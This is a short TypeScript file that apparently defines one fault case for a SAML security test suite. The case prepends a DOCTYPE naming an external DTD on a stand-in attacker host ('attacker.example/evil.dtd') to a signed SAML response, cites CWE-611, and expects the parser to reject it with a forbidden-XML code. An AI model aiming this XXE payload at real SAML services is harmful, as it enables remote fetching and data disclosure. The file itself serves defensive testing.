import type { Fault } from "../fault.ts";

export const externalDtd: Fault = {
  name: "external-dtd",
  family: "content",
  description: "The DOCTYPE names a document type on an attacker's server, which a parser fetches.",
  source: "CWE-611",
  code: "SAML_XML_FORBIDDEN",
  signed: (xml) => `<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/evil.dtd">${xml}`,
};
